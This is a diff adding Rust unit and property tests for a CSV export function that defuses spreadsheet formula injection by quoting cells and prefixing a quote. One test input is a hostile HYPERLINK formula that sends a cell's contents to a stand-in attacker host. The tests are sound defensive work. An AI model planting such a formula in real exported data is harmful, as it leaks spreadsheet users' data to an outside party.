@@ -685,3 +685,61 @@ pub async fn stylesheet() -> Response {
     )
         .into_response()
 }
+
+#[cfg(test)]
+mod tests {
+    use super::csv_field;
+    use proptest::prelude::*;
+
+    /// Reads one CSV cell back as a spreadsheet would (RFC 4180).
+    fn read_cell(cell: &str) -> String {
+        match cell.strip_prefix('"').and_then(|c| c.strip_suffix('"')) {
+            Some(inner) => {
+                assert!(!inner.replace("\"\"", "").contains('"'), "a lone quote inside {cell:?}");
+                inner.replace("\"\"", "\"")
+            }
+            None => {
+                assert!(!cell.contains([',', '"', '\n', '\r']), "unquoted {cell:?}");
+                cell.to_owned()
+            }
+        }
+    }
+
+    const FORMULA: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+    /// Issue 13, item 14: a cell a spreadsheet would run as a formula is defused (OWASP,
+    /// "CSV Injection": a leading `'`, and quoted).
+    #[test]
+    fn formula_cells_are_defused() {
+        assert_eq!(csv_field("=1+2"), "\"'=1+2\"");
+        assert_eq!(csv_field("+994 12 000"), "\"'+994 12 000\"");
+        assert_eq!(csv_field("-2+3"), "\"'-2+3\"");
+        assert_eq!(csv_field("@SUM(A1:A9)"), "\"'@SUM(A1:A9)\"");
+        assert_eq!(csv_field("\t=1"), "\"'\t=1\"");
+        assert_eq!(csv_field("\r=1"), "\"'\r=1\"");
+        assert_eq!(
+            csv_field(r#"=HYPERLINK("http://evil.example/?"&A1,"Click")"#),
+            r#""'=HYPERLINK(""http://evil.example/?""&A1,""Click"")""#
+        );
+        // everything else as before
+        assert_eq!(csv_field("Ministry of Justice"), "Ministry of Justice");
+        assert_eq!(csv_field("42"), "42");
+        assert_eq!(csv_field("a, b"), "\"a, b\"");
+        assert_eq!(csv_field("say \"hi\""), "\"say \"\"hi\"\"\"");
+        assert_eq!(csv_field("a=b"), "a=b");
+    }
+
+    proptest! {
+        /// Any text: the cell reads back as the text (with a `'` in front exactly when it
+        /// starts like a formula), and what a spreadsheet reads never starts like one.
+        #[test]
+        fn any_cell_reads_back_and_never_as_a_formula(s in "[=+@\t\r\n\",a-z0-9 -]{0,12}|\\PC{0,12}") {
+            let cell = csv_field(&s);
+            let read = read_cell(&cell);
+            let dangerous = s.starts_with(FORMULA);
+            prop_assert_eq!(&read, &if dangerous { format!("'{s}") } else { s.clone() });
+            prop_assert!(!read.starts_with(FORMULA));
+            prop_assert!(!dangerous || cell.starts_with("\"'"));
+        }
+    }
+}
